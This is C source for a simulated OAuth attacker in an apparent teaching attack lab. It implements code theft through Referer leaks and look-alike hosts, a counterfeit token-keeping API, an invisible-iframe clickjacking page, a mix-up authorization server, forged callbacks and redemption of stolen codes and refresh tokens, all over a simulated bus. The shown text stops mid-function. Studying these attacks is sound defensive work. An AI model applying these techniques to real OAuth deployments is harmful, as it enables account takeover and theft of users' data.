/* attacker.c: the attacker of RFC 9700 §3, for the attack lab (docs/attack-lab.md).
 *
 * It answers on its own origin (and every name under it) with a small web site: pages that
 * send the owner's browser somewhere (a forged callback, a phishing link, a framed consent
 * page), a landing page and an image that write down whatever arrives in an address or a
 * Referer header, an API that keeps the bearer tokens sent to it, and an authorization server
 * of its own for a mix-up. On a shared device it may also answer for a custom URI scheme it
 * claims. Whatever it learns it keeps, and uses when a scenario says: redeem a code, use a
 * refresh token, replay a request, read the calendar. Everything goes through the bus.
 */
#include <glib/gi18n-lib.h>
#include <string.h>

#include "actors/attacker.h"
#include "actors/oauth.h"

struct _Attacker
{
  SimWorld *world;
  AttackerConfig config;

  /* its own client at the honest server, and its own flow with it */
  char *client_id;
  char *client_secret;
  char *own_state;
  char *own_verifier;

  /* the client it attacks (public knowledge) */
  char *victim_client_id;
  char *victim_redirect_uri;
  char *victim_scope;
  gboolean victim_is_public;
  gboolean victim_uses_pkce;

  /* what it got hold of */
  char *code;
  char *state;
  char *redirect_uri;       /* where the code was sent, or where it asked for it to be sent */
  gboolean crafted;         /* the request behind the code was its own: redirect_uri and verifier are its */
  char *code_verifier;
  char *access_token;
  char *refresh_token;
  char *id_token;           /* someone's ID token, to sign in with at the victim's app */
  char *owner_username;     /* the owner's credentials, from a leaked password-grant sign-in */
  char *owner_password;
  SimMessage *leaked;       /* a request it saw in full, to send again */

  /* what its pages do */
  char *forgery;            /* /csrf sends the browser here */
  char *phish;              /* /phish sends the browser here */
  char *frame;              /* /game shows this in a frame */

  SimMessage *keeping;      /* an answer whose redirect it will keep, not follow */
};

void
attacker_config_init (AttackerConfig *config)
{
  memset (config, 0, sizeof *config);
  config->origin = g_strdup ("https://attacker.example");
  config->username = g_strdup ("mallory");
  config->password = g_strdup ("swordfish");
  config->client_name = g_strdup ("Free Horoscope");
  config->server = g_strdup ("https://auth.example");
  config->api = g_strdup ("https://api.example");
}

void
attacker_config_clear (AttackerConfig *config)
{
  g_clear_pointer (&config->origin, g_free);
  g_clear_pointer (&config->username, g_free);
  g_clear_pointer (&config->password, g_free);
  g_clear_pointer (&config->client_name, g_free);
  g_clear_pointer (&config->server, g_free);
  g_clear_pointer (&config->api, g_free);
}

/**
 * attacker_new:
 * @world: (not owned)
 * @config: copied
 *
 * Returns: (transfer full): an attacker who knows nothing yet.
 */
Attacker *
attacker_new (SimWorld             *world,
              const AttackerConfig *config)
{
  Attacker *self = g_new0 (Attacker, 1);

  self->world = world;
  self->config.origin = g_strdup (config->origin);
  self->config.username = g_strdup (config->username);
  self->config.password = g_strdup (config->password);
  /* Its own password is no one's secret worth showing: a kind of its own keeps it out of the
   * view, where "password" means the owner's. */
  sim_world_hold (world, "attacker", "attacker_password", config->password);
  self->config.client_name = g_strdup (config->client_name);
  self->config.server = g_strdup (config->server);
  self->config.api = g_strdup (config->api);
  self->config.openid = config->openid;
  return self;
}

void
attacker_free (Attacker *self)
{
  if (!self)
    return;
  attacker_config_clear (&self->config);
  g_free (self->client_id);
  g_free (self->client_secret);
  g_free (self->own_state);
  g_free (self->own_verifier);
  g_free (self->victim_client_id);
  g_free (self->victim_redirect_uri);
  g_free (self->victim_scope);
  g_free (self->code);
  g_free (self->state);
  g_free (self->redirect_uri);
  g_free (self->code_verifier);
  g_free (self->access_token);
  g_free (self->refresh_token);
  g_free (self->id_token);
  g_free (self->owner_username);
  g_free (self->owner_password);
  g_clear_pointer (&self->leaked, sim_message_unref);
  g_free (self->forgery);
  g_free (self->phish);
  g_free (self->frame);
  g_free (self);
}

const char *
attacker_get_origin (Attacker *self)
{
  return self->config.origin;
}

static void
replace (char       **field,
         const char  *value)
{
  char *copy = g_strdup (value);
  g_free (*field);
  *field = copy;
}

/* The client it attacks: its id and redirect URI are in every authorization request it
 * sends, so anyone who tries the app knows them. */
void
attacker_set_victim (Attacker             *self,
                     const AttackerVictim *victim)
{
  replace (&self->victim_client_id, victim->client_id);
  replace (&self->victim_redirect_uri, victim->redirect_uri);
  replace (&self->victim_scope, victim->scope);
  self->victim_is_public = victim->is_public;
  self->victim_uses_pkce = victim->uses_pkce;
}

static const char *const held_names[] = {
  "client_id", "client_secret", "code", "state", "code_verifier", "access_token", "refresh_token", NULL
};

/**
 * attacker_get_held:
 * Returns: (transfer none) (nullable): what the attacker holds under @what.
 */
const char *
attacker_get_held (Attacker   *self,
                   const char *what)
{
  const char *values[] = {
    self->client_id, self->client_secret, self->code, self->state, self->code_verifier,
    self->access_token, self->refresh_token
  };

  for (guint i = 0; held_names[i]; i++)
    if (strcmp (held_names[i], what) == 0)
      return values[i];
  return NULL;
}

static char *
server_url (Attacker   *self,
            const char *path)
{
  return g_strconcat (self->config.server, path, NULL);
}

static char *
own_url (Attacker   *self,
         const char *path)
{
  return g_strconcat (self->config.origin, path, NULL);
}

/* The address without its query: where a code was delivered. */
static char *
address_of (SimUri *uri)
{
  g_autoptr(GUri) bare = g_uri_build (G_URI_FLAGS_ENCODED, sim_uri_get_scheme (uri), NULL, sim_uri_get_host (uri),
                                      sim_uri_get_port (uri), sim_uri_get_path (uri), NULL, NULL);
  return g_uri_to_string (bare);
}

static gboolean
take_tokens (Attacker   *self,
             SimMessage *message)
{
  g_autofree char *access = NULL, *refresh = NULL, *scope = NULL, *error = NULL;

  g_autoptr(SimFields) answer = NULL;

  if (!oauth_read_token_response (message, &access, &refresh, &scope, &error))
    return FALSE;
  replace (&self->access_token, access);
  if (refresh)
    replace (&self->refresh_token, refresh);
  if ((answer = sim_message_get_response_fields (message, NULL))
      && sim_fields_get_string (answer, "id_token", NULL))
    replace (&self->id_token, sim_fields_get_string (answer, "id_token", NULL));
  return TRUE;
}

/* Writes down a code (and its state) found in @params; TRUE when there was one. */
static gboolean
keep_code (Attacker   *self,
           SimParams  *params,
           SimUri     *arrived_at)
{
  const char *code = params ? sim_params_get (params, "code") : NULL;

  if (code == NULL)
    return FALSE;
  replace (&self->code, code);
  replace (&self->state, sim_params_get (params, "state"));
  if (!self->crafted && arrived_at)
    {
      g_autofree char *address = address_of (arrived_at);
      replace (&self->redirect_uri, address);
    }
  return TRUE;
}

/**
 * attacker_read_answer:
 *
 * The attacker reads an answer to a request it sent, once nothing more will change it.
 */
void
attacker_read_answer (Attacker   *self,
                      SimMessage *message)
{
  if (message == self->keeping && SOUP_STATUS_IS_REDIRECTION (message->status))
    sim_message_narrate (message, _("The attacker's browser does not follow this redirect: the attacker keeps the address, with a code for the attacker's own account in it."));
}

/* Its site */

static void
site_page (SimMessage *message,
           const char *title,
           const char *body)
{
  /* The attacker's pages protect nothing and forbid nothing. */
  oauth_html_page_with (message, SOUP_STATUS_OK, title, body,
                        OAUTH_PAGE_FRAMABLE | OAUTH_PAGE_NO_REFERRER_POLICY, NULL);
}

static void
redeem_own (Attacker   *self,
            const char *code)
{
  g_autoptr(SimParams) form = sim_params_new ();
  g_autofree char *url = server_url (self, "/token");
  g_autofree char *redirect = own_url (self, "/callback");
  g_autoptr(SimMessage) message = sim_message_new ("POST", url);
  g_autofree char *encoded = NULL;

  sim_params_set (form, "grant_type", "authorization_code");
  sim_params_set (form, "code", code);
  sim_params_set (form, "redirect_uri", redirect);
  if (self->own_verifier)
    sim_params_set (form, "code_verifier", self->own_verifier);
  oauth_set_basic (message->request_headers, self->client_id, self->client_secret);
  encoded = sim_params_encode (form);
  sim_message_set_request_form_encoded (message, encoded);
  sim_message_set_phase (message, SIM_PHASE_CODE_EXCHANGE);
  sim_message_narrate (message, _("The attacker's own client trades the code for tokens, with its own credentials, as any client would."));
  sim_bus_deliver (self->world->bus, "attacker", message);
  take_tokens (self, message);
}

/* Its own client's redirect URI; a code for another client that lands here was sent by a
 * redirect URI the server should not have accepted. */
static void
callback (Attacker   *self,
          SimMessage *message,
          SimParams  *query)
{
  const char *state = query ? sim_params_get (query, "state") : NULL;
  const char *code = query ? sim_params_get (query, "code") : NULL;

  if (code && self->own_state && g_strcmp0 (state, self->own_state) == 0)
    {
      g_autofree char *owned = g_strdup (code);
      site_page (message, "Welcome", "<p>You are signed in. Enjoy your horoscope!</p>");
      sim_message_narrate (message, _("The code comes back to the attacker's own client, at its own redirect URI, with its own state."));
      redeem_own (self, owned);
      return;
    }
  if (keep_code (self, query, message->uri))
    {
      site_page (message, "Loading", "<p>Please wait…</p>");
      sim_message_narrate (message, _("A code arrives at the attacker's site, in the address itself; the attacker writes it down."));
      return;
    }
  site_page (message, "Welcome", "<p>Nothing here.</p>");
}

/* An image on someone else's page: the request's Referer tells where it is shown. */
static void
pixel (Attacker   *self,
       SimMessage *message)
{
  const char *referer = sim_headers_get_one (message->request_headers, "Referer");
  g_autoptr(SimUri) page = referer ? sim_uri_parse (referer, NULL) : NULL;
  g_autoptr(SimParams) query = page ? sim_params_parse (sim_uri_get_query (page), NULL) : NULL;
  static const guint8 gif[] = {
    'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0, 0, 0, ',', 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 0, ';'
  };
  g_autoptr(GBytes) body = g_bytes_new_static (gif, sizeof gif);

  sim_message_set_response (message, SOUP_STATUS_OK, "image/gif", body);
  if (referer == NULL)
    sim_message_narrate (message, _("The attacker's server answers with a tiny image. No Referer came with the request, so it learns nothing about the page that shows it."));
  else if (keep_code (self, query, page))
    sim_message_narrate (message, _("The attacker's server answers with a tiny image, and writes down the Referer: the address of the page that shows it, with a code in it (RFC 9700 §4.2)."));
  else
    sim_message_narrate (message, _("The attacker's server answers with a tiny image and writes down the Referer; there is no code in it."));
}

/* An API the client is made to call: it keeps the bearer token sent to it. */
static void
counterfeit_api (Attacker   *self,
                 SimMessage *message)
{
  const char *authorization = sim_headers_get_one (message->request_headers, "Authorization");
  g_autoptr(JsonBuilder) b = json_builder_new_immutable ();
  g_autoptr(JsonNode) root = NULL;

  json_builder_begin_object (b);
  json_builder_set_member_name (b, "forecast");
  json_builder_add_string_value (b, "sunny");
  json_builder_end_object (b);
  root = json_builder_get_root (b);
  sim_message_set_response_json (message, SOUP_STATUS_OK, root);
  if (authorization && g_ascii_strncasecmp (authorization, "Bearer ", 7) == 0)
    {
      replace (&self->access_token, authorization + 7);
      sim_message_narrate (message, _("The attacker's API answers, and keeps the bearer token that came with the request (RFC 9700 §4.9.1): a counterfeit resource server."));
    }
  else
    sim_message_narrate (message, _("The attacker's API answers; no token came with the request."));
}

static void
game_page (Attacker   *self,
           SimMessage *message)
{
  g_autofree char *escaped = NULL;
  g_autofree char *body = NULL;

  if (self->frame == NULL)
    {
      site_page (message, "Daily horoscope", "<p>Come back tomorrow.</p>");
      return;
    }
  escaped = g_markup_escape_text (self->frame, -1);
  body = g_strdup_printf ("<p>Click Play to see today's horoscope!</p>\n"
                          "<iframe src=\"%s\" style=\"opacity:0;position:absolute;top:0;left:0\"></iframe>\n"
                          "<button>Play</button>", escaped);
  site_page (message, "Daily horoscope", body);
  sim_message_narrate (message, _("The attacker's page shows a game with a Play button, and, invisible on top of it, a frame holding the authorization server's consent page for the attacker's own client, its Allow button exactly where Play seems to be."));
}

/* Its authorization server (a mix-up): issuer = its origin. */

static char *authorization_url (Attacker   *self,
                                const char *client_id,
                                const char *redirect_uri,
                                const char *scope,
                                char      **state,
                                char      **verifier,
                                gboolean    pkce);

/* "Sign in with auth.example": the attacker's own app, as honest as any, asks who the visitor
 * is. Whoever signs in hands it an ID token for its own client, and an access token. */
static void
sign_in_page (Attacker   *self,
              SimMessage *message)
{
  g_autofree char *redirect = own_url (self, "/callback");
  g_autofree char *state = NULL;
  g_autofree char *verifier = NULL;
  g_autofree char *url = authorization_url (self, self->client_id, redirect,
                                            self->config.openid ? "openid" : "calendar.read",
                                            &state, &verifier, TRUE);

  replace (&self->own_state, state);
  replace (&self->own_verifier, verifier);
  sim_message_set_redirect (message, url);
  sim_message_narrate (message, _("“Sign in with auth.example to read your horoscope”: the attacker's own app sends the owner to the real authorization server, for its own client_id. Nothing is forged: she signs in to a site she chose to visit."));
}

static void
mixup_register (Attacker   *self,
                SimMessage *message)
{
  g_autoptr(JsonNode) request = sim_message_get_request_json (message, NULL);
  JsonObject *metadata = request && JSON_NODE_HOLDS_OBJECT (request) ? json_node_get_object (request) : NULL;
  const char *method = metadata ? json_object_get_string_member_with_default (metadata, "token_endpoint_auth_method", "") : "";
  g_autoptr(JsonBuilder) b = json_builder_new_immutable ();
  g_autoptr(JsonNode) root = NULL;
  g_autofree char *id = sim_rng_token (self->world->rng, "ma_", 9);

  json_builder_begin_object (b);
  json_builder_set_member_name (b, "client_id");
  json_builder_add_string_value (b, id);
  if (strcmp (method, "none") != 0)
    {
      g_autofree char *secret = sim_rng_token (self->world->rng, "ms_", 18);
      json_builder_set_member_name (b, "client_secret");
      json_builder_add_string_value (b, secret);
    }
  json_builder_end_object (b);
  root = json_builder_get_root (b);
  sim_message_set_response_json (message, SOUP_STATUS_CREATED, root);
  oauth_no_store (message);
  sim_message_narrate (message, _("The attacker runs an authorization server of its own, and it registers the client like any other: nothing about it looks wrong."));
}

static void
mixup_authorize (Attacker   *self,
                 SimMessage *message)
{
  g_autoptr(SimParams) query = sim_message_get_query (message, NULL);
  g_autoptr(SimParams) forwarded = sim_params_new ();
  g_autofree char *endpoint = server_url (self, "/authorize");
  g_autofree char *location = NULL;

  for (guint i = 0; query && i < sim_params_size (query); i++)
    sim_params_set (forwarded, sim_params_name_at (query, i),
                    strcmp (sim_params_name_at (query, i), "client_id") == 0 && self->victim_client_id
                    ? self->victim_client_id : sim_params_value_at (query, i));
  location = oauth_append_query (endpoint, forwarded);
  sim_message_set_redirect (message, location);
  sim_message_narrate (message, _("The attacker's server does not ask the owner anything: it sends her browser straight on to the honest server, with the same request, state and code_challenge, but with the client's client_id at the honest server (RFC 9700 §4.4.1). She will sign in there, where she always does."));
}

static void
mixup_token (Attacker   *self,
             SimMessage *message)
{
  g_autoptr(SimParams) form = sim_message_get_form (message, NULL);
  const char *code = form ? sim_params_get (form, "code") : NULL;

  oauth_json_error (message, SOUP_STATUS_BAD_REQUEST, "invalid_grant", "please try again later");
  if (code == NULL)
    return;
  replace (&self->code, code);
  replace (&self->code_verifier, sim_params_get (form, "code_verifier"));
  replace (&self->redirect_uri, sim_params_get (form, "redirect_uri"));
  self->crafted = FALSE;
  sim_message_narrate (message, _("The client takes the code to the server it thinks answered: the attacker's. Its token endpoint keeps the code and the code_verifier that came with it, and answers with an error, so the client sees nothing worse than a failed sign-in. The code was issued by the honest server, and PKCE does not help: the verifier came with it (RFC 9700 §4.4)."));
}

/**
 * attacker_handle:
 *
 * The bus calls this for every request to the attacker's origins.
 */
void
attacker_handle (gpointer    data,
                 SimMessage *message)
{
  Attacker *self = data;
  const char *path = sim_message_get_path (message);
  g_autofree char *origin = sim_message_dup_origin (message);
  g_autoptr(SimParams) query = sim_message_get_query (message, NULL);

  /* Any other name (a look-alike host, a custom scheme it claimed): a landing place. */
  if (g_strcmp0 (origin, self->config.origin) != 0)
    {
      if (keep_code (self, query, message->uri))
        {
          site_page (message, "Loading", "<p>Please wait…</p>");
          if (g_str_has_suffix (origin, "://"))
            sim_message_narrate (message, _("The device hands this address to the app that claimed its scheme, and the attacker's app claimed it too (RFC 8252 §8.1): the attacker's app gets the code."));
          else
            sim_message_narrate (message, _("The code lands on a host the attacker owns; the attacker writes it down."));
        }
      else
        site_page (message, "Welcome", "<p>Nothing here.</p>");
      return;
    }

  if (strcmp (path, "/callback") == 0 || strcmp (path, "/steal") == 0)
    callback (self, message, query);
  else if (strcmp (path, "/pixel.gif") == 0)
    pixel (self, message);
  else if (strcmp (path, "/weather") == 0)
    counterfeit_api (self, message);
  else if (strcmp (path, "/csrf") == 0 && self->forgery)
    {
      sim_message_set_redirect (message, self->forgery);
      sim_message_narrate (message, _("The attacker's page sends the owner's browser to the client's redirect URI, with a code and a state the attacker got for its own account: a forged callback (RFC 6749 §10.12)."));
    }
  else if (strcmp (path, "/phish") == 0 && self->phish)
    {
      sim_message_set_redirect (message, self->phish);
      sim_message_narrate (message, _("The link in the attacker's message sends the owner to the real authorization server, with an authorization request the attacker wrote: the real client, the real server, nothing that looks wrong."));
    }
  else if (strcmp (path, "/game") == 0)
    game_page (self, message);
  else if (strcmp (path, "/signin") == 0 && self->client_id)
    sign_in_page (self, message);
  else if (strcmp (path, "/register") == 0 && strcmp (message->method, "POST") == 0)
    mixup_register (self, message);
  else if (strcmp (path, "/authorize") == 0)
    mixup_authorize (self, message);
  else if (strcmp (path, "/token") == 0 && strcmp (message->method, "POST") == 0)
    mixup_token (self, message);
  else
    sim_message_set_response_text (message, SOUP_STATUS_NOT_FOUND, "text/plain", "Not Found\n");
}

/* Actions */

SimMessage *
attacker_register (Attacker *self)
{
  g_autofree char *url = server_url (self, "/register");
  g_autofree char *redirect = own_url (self, "/callback");
  SimMessage *message = sim_message_new ("POST", url);
  g_autoptr(JsonBuilder) b = json_builder_new_immutable ();
  g_autoptr(JsonNode) root = NULL;
  g_autoptr(JsonNode) answer = NULL;

  json_builder_begin_object (b);
  json_builder_set_member_name (b, "client_name");
  json_builder_add_string_value (b, self->config.client_name);
  json_builder_set_member_name (b, "redirect_uris");
  json_builder_begin_array (b);
  json_builder_add_string_value (b, redirect);
  json_builder_end_array (b);
  json_builder_set_member_name (b, "token_endpoint_auth_method");
  json_builder_add_string_value (b, "client_secret_basic");
  json_builder_set_member_name (b, "scope");
  json_builder_add_string_value (b, self->config.openid ? "openid calendar.read" : "calendar.read");
  json_builder_end_object (b);
  root = json_builder_get_root (b);
  sim_message_set_request_json (message, root);
  sim_message_set_phase (message, SIM_PHASE_REGISTRATION);
  sim_message_narrate (message, _("The attacker registers a client of its own, with a friendly name and a redirect URI on its own site. Open registration lets anyone do this (RFC 7591)."));
  sim_bus_deliver (self->world->bus, "attacker", message);
  if (message->status == SOUP_STATUS_CREATED
      && (answer = sim_message_get_response_json (message, NULL)) && JSON_NODE_HOLDS_OBJECT (answer))
    {
      JsonObject *object = json_node_get_object (answer);
      replace (&self->client_id, json_object_get_string_member_with_default (object, "client_id", NULL));
      replace (&self->client_secret, json_object_get_string_member_with_default (object, "client_secret", NULL));
    }
  return message;
}

/* An authorization request for @client_id, with a state and, if @pkce, a challenge of its own. */
static char *
authorization_url (Attacker   *self,
                   const char *client_id,
                   const char *redirect_uri,
                   const char *scope,
                   char      **state,
                   char      **verifier,
                   gboolean    pkce)
{
  g_autoptr(SimParams) params = sim_params_new ();
  g_autofree char *endpoint = server_url (self, "/authorize");

  *state = sim_rng_token (self->world->rng, "st_", 12);
  sim_params_set (params, "response_type", "code");
  sim_params_set (params, "client_id", client_id ? client_id : "");
  sim_params_set (params, "redirect_uri", redirect_uri ? redirect_uri : "");
  sim_params_set (params, "scope", scope ? scope : "calendar.read");
  sim_params_set (params, "state", *state);
  *verifier = NULL;
  if (pkce)
    {
      g_autofree char *challenge = NULL;
      *verifier = sim_rng_token (self->world->rng, NULL, 32);
      challenge = oauth_pkce_s256 (*verifier);
      sim_params_set (params, "code_challenge", challenge);
      sim_params_set (params, "code_challenge_method", "S256");
    }
  return oauth_append_query (endpoint, params);
}

/* Signs in at the page @page shows, as its own account, and approves every scope. */
static SimMessage *
sign_in (Attacker   *self,
         SimMessage *page,
         gboolean    keep)
{
  g_autofree char *html = sim_message_dup_response_text (page);
  g_autoptr(OAuthForm) form = html ? oauth_form_parse (html) : NULL;
  g_autoptr(SimUri) action = NULL;
  g_autoptr(GString) body = NULL;
  g_autoptr(SimParams) fields = sim_params_new ();
  g_autofree char *encoded = NULL;
  SimMessage *message;

  if (form == NULL || form->action == NULL
      || !(action = sim_uri_resolve (page->uri, form->action)))
    return NULL;
  for (guint i = 0; i < sim_params_size (form->hidden); i++)
    sim_params_set (fields, sim_params_name_at (form->hidden, i), sim_params_value_at (form->hidden, i));
  sim_params_set (fields, "username", self->config.username);
  sim_params_set (fields, "password", self->config.password);
  encoded = sim_params_encode (fields);
  body = g_string_new (encoded);
  for (guint i = 0; i < form->checkboxes->len; i++)
    {
      g_autofree char *one = soup_form_encode ("scope", (char *) form->checkboxes->pdata[i], NULL);
      g_string_append_printf (body, "&%s", one);
    }
  g_string_append (body, "&decision=approve");
  message = sim_message_new_from_uri ("POST", action);
  sim_message_set_request_form_encoded (message, body->str);
  sim_message_set_phase (message, SIM_PHASE_CONSENT);
  sim_message_narrate (message, _("The attacker signs in with its own account and approves."));
  self->keeping = keep ? message : NULL;
  sim_bus_deliver (self->world->bus, "attacker", message);
  self->keeping = NULL;
  return message;
}

/**
 * attacker_authorize:
 * @own_client: for its own client (the code comes back to its site, which redeems it), or for
 *   the victim's client (its browser stops at the redirect and keeps the address)
 * @pkce: send a code_challenge of its own
 *
 * The attacker's own browser goes through an authorization at the honest server, signed in
 * as the attacker's own account.
 *
 * Returns: (transfer full) (nullable): the last exchange.
 */
SimMessage *
attacker_authorize (Attacker *self,
                    gboolean  own_client,
                    gboolean  pkce)
{
  g_autofree char *redirect = own_url (self, "/callback");
  g_autofree char *url = NULL;
  g_autofree char *state = NULL;
  g_autofree char *verifier = NULL;
  g_autoptr(SimMessage) page = NULL;
  SimMessage *answer;
  const char *location;

  if (own_client)
    {
      url = authorization_url (self, self->client_id, redirect, "calendar.read", &state, &verifier, pkce);
      replace (&self->own_state, state);
      replace (&self->own_verifier, verifier);
    }
  else
    url = authorization_url (self, self->victim_client_id, self->victim_redirect_uri, self->victim_scope,
                             &state, &verifier, pkce);
  page = sim_message_new ("GET", url);
  sim_message_set_phase (page, SIM_PHASE_CONSENT);
  if (own_client)
    sim_message_narrate (page, _("The attacker's own browser starts an authorization for the attacker's own client."));
  else if (pkce)
    sim_message_narrate (page, _("The attacker's own browser starts an authorization for the victim's client, as anyone may: client ids and redirect URIs are public. The challenge is the attacker's own."));
  else
    sim_message_narrate (page, _("The attacker's own browser starts an authorization for the victim's client, as anyone may: client ids and redirect URIs are public. It sends no code_challenge."));
  sim_bus_deliver (self->world->bus, "attacker", page);
  answer = sign_in (self, page, !own_client);
  if (answer == NULL)
    return g_steal_pointer (&page);
  location = sim_headers_get_one (answer->response_headers, "Location");
  if (!SOUP_STATUS_IS_REDIRECTION (answer->status) || location == NULL)
    return answer;
  if (own_client)
    {
      g_autoptr(SimMessage) hop = sim_message_new ("GET", location);
      if (hop == NULL)
        return answer;
      sim_message_set_phase (hop, SIM_PHASE_CODE_EXCHANGE);
      sim_message_narrate (hop, _("The attacker's browser follows the redirect to its own site."));
      sim_bus_deliver (self->world->bus, "attacker", hop);
      sim_message_unref (answer);
      return g_steal_pointer (&hop);
    }
  {
    g_autoptr(SimUri) uri = sim_uri_parse (location, NULL);
    g_autoptr(SimParams) query = uri ? sim_params_parse (sim_uri_get_query (uri), NULL) : NULL;
    self->crafted = TRUE;
    replace (&self->redirect_uri, self->victim_redirect_uri);
    replace (&self->code_verifier, verifier);
    keep_code (self, query, uri);
  }
  return answer;
}

/**
 * attacker_redeem:
 * @role: whose client_id goes with the code
 *
 * Takes the code it holds to the honest server's token endpoint.
 *
 * Returns: (transfer full) (nullable): the token exchange.
 */
SimMessage *
attacker_redeem (Attacker     *self,
                 AttackerRole  role,
                 const char  **why_not)
{
  g_autoptr(SimParams) form = sim_params_new ();
  g_autofree char *url = server_url (self, "/token");
  g_autofree char *own_redirect = own_url (self, "/callback");
  g_autofree char *app_verifier = NULL;
  g_autofree char *encoded = NULL;
  SimMessage *message;

  if (self->code == NULL)
    {
      *why_not = _("The attacker has no code to redeem: the attack got nothing.");
      return NULL;
    }
  if (role == ATTACKER_AS_OWN && self->client_id == NULL)
    {
      *why_not = _("The attacker has no client of its own to redeem the code as.");
      return NULL;
    }
  message = sim_message_new ("POST", url);
  sim_params_set (form, "grant_type", "authorization_code");
  sim_params_set (form, "code", self->code);
  switch (role)
    {
    case ATTACKER_AS_OWN:
      sim_params_set (form, "redirect_uri", own_redirect);
      oauth_set_basic (message->request_headers, self->client_id, self->client_secret);
      sim_message_narrate (message, _("The attacker takes the code to the token endpoint as its own client."));
      break;
    case ATTACKER_VIA_APP:
      /* Its copy of the app started a sign-in of its own, with its own verifier; the stolen
       * code goes in where that sign-in's code would have come back. */
      sim_params_set (form, "redirect_uri", self->victim_redirect_uri ? self->victim_redirect_uri : "");
      if (self->victim_uses_pkce)
        {
          app_verifier = sim_rng_token (self->world->rng, NULL, 32);
          sim_params_set (form, "code_verifier", app_verifier);
        }
      sim_params_set (form, "client_id", self->victim_client_id ? self->victim_client_id : "");
      if (app_verifier)
        sim_message_narrate (message, _("The attacker runs the same app on its own device. The app there started a sign-in of its own, with its own PKCE verifier; the attacker feeds it the stolen code instead of the one it waits for, and the app redeems it, as it would its own (RFC 9700 §4.5)."));
      else
        sim_message_narrate (message, _("The attacker runs the same app on its own device and feeds it the stolen code as if it had come back to it; the app redeems it, as it would its own (RFC 9700 §4.5). This app uses no PKCE, so nothing ties the code to the app that asked for it."));
      break;
    case ATTACKER_AS_VICTIM:
    default:
      sim_params_set (form, "redirect_uri", self->redirect_uri ? self->redirect_uri : "");
      if (self->code_verifier)
        sim_params_set (form, "code_verifier", self->code_verifier);
      sim_params_set (form, "client_id", self->victim_client_id ? self->victim_client_id : "");
      if (self->code_verifier && self->crafted)
        sim_message_narrate (message, _("The attacker takes the stolen code to the token endpoint itself. The client is public, so its client_id is all the authentication there is; and the authorization request was the attacker's own, so the PKCE verifier is too."));
      else if (self->code_verifier)
        sim_message_narrate (message, _("The attacker takes the stolen code to the token endpoint itself, with the client's public client_id and the code_verifier it captured with the code."));
      else
        sim_message_narrate (message, _("The attacker takes the stolen code to the token endpoint itself. The client is public, so its client_id is all the authentication there is, and the attacker has no PKCE verifier to send."));
      break;
    }
  encoded = sim_params_encode (form);
  sim_message_set_request_form_encoded (message, encoded);
  sim_message_set_phase (message, SIM_PHASE_CODE_EXCHANGE);
  sim_bus_deliver (self->world->bus, "attacker", message);
  take_tokens (self, message);
  return message;
}

/**
 * attacker_refresh:
 *
 * Uses the refresh token it holds as the victim's public client.
 *
 * Returns: (transfer full) (nullable): the token exchange.
 */
SimMessage *
attacker_refresh (Attacker     *self,
                  const char  **why_not)
{
  g_autoptr(SimParams) form = sim_params_new ();
  g_autofree char *url = server_url (self, "/token");
  g_autofree char *encoded = NULL;
  SimMessage *message;

  if (self->refresh_token == NULL)
    {
      *why_not = _("The attacker has no refresh token to use: the attack got nothing.");
      return NULL;
    }
  message = sim_message_new ("POST", url);
  sim_params_set (form, "grant_type", "refresh_token");
  sim_params_set (form, "refresh_token", self->refresh_token);
  sim_params_set (form, "client_id", self->victim_client_id ? self->victim_client_id : "");
  encoded = sim_params_encode (form);
  sim_message_set_request_form_encoded (message, encoded);
  sim_message_set_phase (message, SIM_PHASE_REFRESH);
  sim_message_narrate (message, _("The attacker uses the stolen refresh token, with the public client's client_id: for a public client that is all the server can ask for."));
  sim_bus_deliver (self->world->bus, "attacker", message);
  take_tokens (self, message);
  return message;
}

/**
 * attacker_call_api:
 *
 * Reads the calendar with the access token it holds.
 *
 * Returns: (transfer full) (nullable): the exchange with the API.
 */
SimMessage *
attacker_call_api (Attacker     *self,
                   const char  **why_not)
{
  g_autofree char *url = g_strconcat (self->config.api, "/calendar/events", NULL);
  g_autofree char *value = NULL;
  SimMessage *message;

  if (self->access_token == NULL)
    {
      *why_not = _("The attacker holds no access token, so it cannot read the calendar: the attack failed.");
      return NULL;
    }
  message = sim_message_new ("GET", url);
  value = g_strconcat ("Bearer ", self->access_token, NULL);
  sim_headers_replace (message->request_headers, "Authorization", value);
  sim_message_set_phase (message, SIM_PHASE_ACCESS);
  sim_message_narrate (message, _("The attacker calls the calendar API with the access token it got hold of. A bearer token works for whoever holds it (RFC 6750 §1.2)."));
  sim_bus_deliver (self->world->bus, "attacker", message);
  return message;
}

/**
 * attacker_password_grant:
 *
 * Signs in as the owner with the password it got hold of, by the password grant (RFC 6749
 * §4.3), as the victim's public client: its client_id is all that client proves.
 *
 * Returns: (transfer full) (nullable): the token exchange.
 */
SimMessage *
attacker_password_grant (Attacker     *self,
                         const char  **why_not)
{
  g_autoptr(SimParams) form = sim_params_new ();
  g_autofree char *url = server_url (self, "/token");
  SimMessage *message;

  if (self->owner_password == NULL)
    {
      *why_not = _("The attacker holds no password of the owner's, so there is nothing to sign in with: the attack got nothing.");
      return NULL;
    }
  message = sim_message_new ("POST", url);
  sim_params_set (form, "grant_type", "password");
  sim_params_set (form, "username", self->owner_username ? self->owner_username : "");
  sim_params_set (form, "password", self->owner_password);
  sim_params_set (form, "client_id", self->victim_client_id ? self->victim_client_id : "");
  sim_message_set_request_params (message, g_steal_pointer (&form));
  sim_message_set_phase (message, SIM_PHASE_CODE_EXCHANGE);
  sim_message_narrate (message, _("The attacker signs in as the owner with her own username and password, by the password grant, naming the app's public client_id. To the server this is the owner using her app."));
  sim_bus_deliver (self->world->bus, "attacker", message);
  take_tokens (self, message);
  return message;
}

/**
 * attacker_replay:
 *
 * Sends again, unchanged, a request it saw in full.
 *
 * Returns: (transfer full) (nullable): the replayed exchange.
 */
SimMessage *
attacker_replay (Attacker     *self,
                 const char  **why_not)
{
  SimMessage *copy;
  SimHeadersIter iter;
  const char *name, *value;

  if (self->leaked == NULL)
    {
      *why_not = _("The attacker has seen no request it could send again.");
      return NULL;
    }
  copy = sim_message_new_from_uri (self->leaked->method, self->leaked->uri);
  sim_headers_iter_init (&iter, self->leaked->request_headers);
  while (sim_headers_iter_next (&iter, &name, &value))
    sim_headers_append (copy->request_headers, name, value);
  sim_message_copy_request_body (copy, self->leaked);
  sim_message_set_phase (copy, self->leaked->phase);
  if (sim_headers_get_one (copy->request_headers, "DPoP"))
